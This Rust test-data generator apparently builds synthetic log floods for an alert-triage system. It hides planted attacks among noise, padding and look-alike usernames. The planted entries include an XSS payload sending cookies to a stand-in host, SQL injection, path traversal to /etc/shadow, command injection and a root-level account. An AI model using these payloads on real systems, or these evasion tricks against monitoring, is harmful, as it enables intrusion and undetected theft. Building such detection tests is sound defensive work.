//! Floods against limits: of what an incident keeps, of what a prompt holds, of how names are told apart, and of what the model has time for.

use serde_json::json;

use super::Maker;

/// More shapes, paths, users and texts than any list keeps; behind them, when every list is full, what matters.
pub(super) fn evidence_exhaustion(maker: &mut Maker, count: usize) {
    let source = "203.0.113.80";
    let span = count as u64 * 4;
    for number in 0..count as u64 - 3 {
        let at = number * 4;
        if number % 3 == 0 {
            // A daemon that says something else each time, by one rule.
            let word = |maker: &mut Maker| {
                maker
                    .chance
                    .one_of(
                        &["retry", "queue", "socket", "lease", "shard", "cache", "quota", "token"],
                        "x",
                    )
                    .to_owned()
            };
            let words: Vec<String> = (0..4).map(|_| word(maker)).collect();
            let more = json!({
                "full_log": format!("Nov 24 14:26:00 app01 appd[77]: warning {}", words.join(" ")),
                "location": "/var/log/syslog",
            });
            maker.alert(
                at,
                ("1002", 5, "A program reports a problem.", &["syslog", "errors"]),
                ("004", "app01"),
                more,
                None,
            );
        } else {
            // A scan whose requests have ever other depths, endings and parameters.
            let mut url = String::new();
            for _ in 0..=maker.chance.below(7) {
                url.push_str(&maker.guessed_path().replace('/', ""));
                url.insert(0, '/');
            }
            let parameter = maker
                .chance
                .one_of(&["a", "id", "page", "lang", "ref", "src", "cat", "sort", "view"], "a");
            let url = format!("{url}?{parameter}={}", maker.chance.below(1000));
            maker.web(at, source, &url, 404, None);
        }
    }
    let late = span / 2;
    let needle = maker.needle("script injection by the scanner", source, "xss");
    let at = late + maker.chance.below(span / 4);
    maker.web(
        at,
        source,
        "/search/?q=%3Cscript%3Efetch(%27//198.51.100.4/%27%2Bdocument.cookie)%3C/script%3E",
        200,
        Some(needle),
    );
    let needle = maker.needle("a new account on the noisy host", "app01", "account_change");
    let at = late + maker.chance.below(span / 4);
    let more = json!({
        "full_log": "Nov 24 14:26:00 app01 useradd[812]: new user: name=svc9, UID=0, GID=0, home=/root, shell=/bin/bash",
        "data": {"dstuser": "svc9", "uid": "0", "gid": "0"}, "location": "/var/log/auth.log",
    });
    maker.alert(
        at,
        ("5902", 8, "A user was added to the system.", &["syslog", "adduser"]),
        ("004", "app01"),
        more,
        Some(needle),
    );
    let needle = maker.needle("a traversal that was answered", source, "path_traversal");
    let at = late + maker.chance.below(span / 4);
    maker.web(at, source, "/download/?name=....//....//....//etc/passwd", 200, Some(needle));
}

/// Lines of some kilobytes from one address, each of another shape. Among them an injection with as long a tail, and a short one.
pub(super) fn prompt_stuffing(maker: &mut Maker, count: usize) {
    let source = "203.0.113.90";
    let span = count as u64 * 6;
    let stuffing = |maker: &mut Maker, characters: usize| {
        let mut text = String::new();
        while text.len() < characters {
            text.push_str(maker.chance.one_of(
                &["lorem-", "ipsum-", "0123456789-", "====----", "dolor.sit.", "%41%42%43"],
                "x",
            ));
        }
        text
    };
    for number in 0..count as u64 - 3 {
        let path = maker.guessed_path();
        let tail = stuffing(maker, 1600);
        let client = stuffing(maker, 800);
        maker.web_by(number * 6, source, &format!("{path}?pad={tail}"), 404, &client, None);
    }
    let tail = stuffing(maker, 1600);
    for (name, class, url) in [
        (
            "injection in front of a long tail",
            "sql_injection",
            format!("/item/?id=1%27%20UNION%20SELECT%20pw%20FROM%20users--%20-&pad={tail}"),
        ),
        (
            "traversal behind a long head",
            "path_traversal",
            format!("/get/?pad={tail}&file=../../../../etc/shadow"),
        ),
        ("a short command", "command_injection", "/ping/?host=%24(id)".to_owned()),
    ] {
        let needle = maker.needle(name, source, class);
        let at = maker.amid(span);
        let client = stuffing(maker, 800);
        maker.web_by(at, source, &url, 500, &client, Some(needle));
    }
}

/// The rule by which somebody got root rights.
const SUDO: super::Rule<'_> = ("5402", 3, "Somebody ran a command as root.", &["syslog", "sudo"]);

/// Users whose names run into those of machines, differ only behind a cut, or in characters that nobody sees. One of them is the needle.
pub(super) fn fingerprint_collision(maker: &mut Maker, count: usize) {
    let span = count as u64 * 4;
    let long = "service-account-of-the-department-for-the-care-of-very-long-names-";
    let noise: [(&str, String); 9] = [
        ("web", "01admin".to_owned()),
        ("web0", "1admin".to_owned()),
        ("web01a", "dmin".to_owned()),
        ("web01", "Admin".to_owned()),
        ("web01", "admin2".to_owned()),
        ("web01", "adm\u{200b}in".to_owned()),
        ("web01", "admin\u{0}".to_owned()),
        ("web01", format!("{long}a")),
        ("web01", "\u{430}dmin".to_owned()),
    ];
    let run = |maker: &mut Maker,
               at: u64,
               host: &str,
               user: &str,
               command: &str,
               needle: Option<usize>| {
        let more = json!({
            "full_log": format!("Nov 24 14:26:00 {host} sudo: {user} : PWD=/ ; USER=root ; COMMAND={command}"),
            "data": {"srcuser": user, "dstuser": "root", "command": command}, "location": "/var/log/auth.log",
        });
        maker.alert(at, SUDO, ("001", host), more, needle);
    };
    for number in 0..count as u64 - 2 {
        let at = usize::try_from(maker.chance.below(noise.len() as u64)).unwrap_or(0);
        let Some((host, user)) = noise.get(at) else { continue };
        run(maker, number * 4, host, user, "/usr/bin/systemctl reload nginx", None);
    }
    let needle = maker.needle("the real admin", "admin", "privilege_escalation");
    let at = maker.amid(span);
    run(maker, at, "web01", "admin", "/bin/cp /etc/shadow /tmp/x", Some(needle));
    let user = format!("{long}b");
    let needle = maker.needle("a name that differs behind the cut", &user, "privilege_escalation");
    let at = maker.amid(span);
    run(maker, at, "web01", &user, "/bin/cp /etc/shadow /tmp/y", Some(needle));
}

/// Serious alerts of two dozen rules from sixty sources, each an incident of its own; in between, a script injection and a guess of
/// a path that was answered.
pub(super) fn starvation(maker: &mut Maker, count: usize) {
    let span = count as u64 * 4;
    for number in 0..count as u64 - 2 {
        let kind = maker.chance.below(3);
        let source = format!("198.18.9.{}", maker.chance.below(60) + 1);
        let id = 100_200 + maker.chance.below(3);
        let (description, group) = match kind {
            0 => ("A file that is known as malicious was found.", "virus"),
            1 => ("A log was cleared.", "log_clearing"),
            _ => ("An exploit of a known weakness was seen.", "exploit_attempt"),
        };
        let more = json!({
            "full_log": format!("sensor: {description} host {source} item {}", maker.chance.below(1000)),
            "data": {"srcip": source}, "location": "/var/log/sensor.log",
        });
        maker.alert(
            number * 4,
            (&id.to_string(), 15, description, &["sensor", group]),
            ("005", "sensor"),
            more,
            None,
        );
    }
    let needle = maker.needle("a script injection behind serious noise", "203.0.113.40", "xss");
    let at = maker.amid(span);
    maker.web(at, "203.0.113.40", "/search/?q=%3Csvg/onload=alert(1)%3E", 200, Some(needle));
    let needle = maker.needle("a traversal behind serious noise", "203.0.113.41", "path_traversal");
    let at = maker.amid(span);
    maker.web(at, "203.0.113.41", "/download/?file=../../../../etc/hosts", 404, Some(needle));
}
